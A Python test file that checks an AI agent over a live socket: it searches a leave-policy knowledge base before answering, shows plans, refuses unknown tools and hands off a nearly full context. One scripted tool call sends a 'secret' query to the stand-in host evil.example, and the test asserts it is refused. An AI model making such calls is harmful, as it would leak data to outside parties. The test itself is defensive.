"""What the agent promises, seen from a socket: searched before it answers, planned, refused, handed off."""

from django.core.files.base import ContentFile

from apps.agents.models import ConversationHandoff
from apps.common.database import in_db
from apps.knowledge import services
from apps.knowledge.models import KnowledgeBase
from tests.conversations.live.client import Tab
from tests.conversations.live.test_whole_turn import tab  # noqa: F401 (a fixture)
from tests.vendor import Reply, call

QUESTION = "How long is annual leave?"
FULL = {"prompt_tokens": 27_853, "completion_tokens": 5, "total_tokens": 27_858}  # 85 % of 32,768
SEARCH = call("doc_retrieval", {"query": "annual leave"}, "k1")
STEPS = [{"title": "Search", "state": "running"}]


def a_base(people):
    """A base with a document about leave, once for the module."""
    if KnowledgeBase.objects.filter(workspace=people.acme, name="Leave").exists():
        return
    base = KnowledgeBase.objects.create(workspace=people.acme, name="Leave", created_by=people.ann)
    file = ContentFile(b"# Leave\n\nAnnual leave is ten days a year.\n", name="leave.md")
    document = services.add_document(knowledge_base=base, file=file, name="leave.md", actor=people.ann)
    services.ingest_document(document.pk)


async def test_searched_planned_refused_and_handed_off(tab: "type[Tab]", people, conversation, scripted_model):  # noqa: F811
    await in_db(a_base, people)
    async with tab() as one:

        async def ask(*replies):
            one.frames.clear()
            scripted_model.script(replies)
            await one.ask(QUESTION)
            end = await one.turn()
            assert (end["status"], end["error"]) == ("succeeded", None)
            return lambda kind: [frame for frame in one.frames if frame["type"] == kind]

        # An answer from memory is not heard; the search that it lacked is made, and what it finds is cited.
        frames = await ask(Reply("Thirty days, as I recall."), Reply("Ten days [[c1]]."))
        assert one.text == "Ten days [[c1]]."
        assert [frame["name"] for frame in frames("tool.started")] == ["doc_retrieval"]
        assert frames("sources")[-1]["sources"][0]["document"] == "leave.md"
        assert frames("understanding")[0]["intent"] == "kb_search"

        # A plan is shown; what is not there, or not allowed, is refused, and that is an event.
        evil = call("web_fetch", {"url": "https://evil.example/?q=secret"}, "k2")
        plan = call("write_plan", {"steps": STEPS}, "k3")
        frames = await ask(Reply(tool_calls=[plan, evil, SEARCH]), Reply("Ten days [[c1]].", usage=FULL))
        assert frames("plan")[0]["steps"] == STEPS
        refused = {frame["name"]: frame["refused"] for frame in frames("tool.finished")}
        assert refused == {"write_plan": None, "web_fetch": "unknown_tool", "doc_retrieval": None}
        assert {place["break"] for place in frames("usage")[0]["requests"]} <= {"", "turn_border"}

        # The last request filled 85 % of the window: the turns are handed off before the next question.
        frames = await ask(Reply(tool_calls=[SEARCH]), Reply("Ten days [[c1]]."))
        [handoff] = frames("handoff")
        assert handoff["turns"] == 2
        row = await ConversationHandoff.objects.aget(conversation=conversation.pk)
        assert str(row.pk) == handoff["summary_upto_message_id"]
        assert frames("usage")[0]["requests"][0]["break"] == "handoff"
        sent = scripted_model.requests[-1].messages
        assert [message["role"] for message in sent] == ["system", "user", "assistant", "tool"]
        assert sent[1]["content"].startswith("<handoff>\n")
        assert sent[1]["content"].endswith(QUESTION)
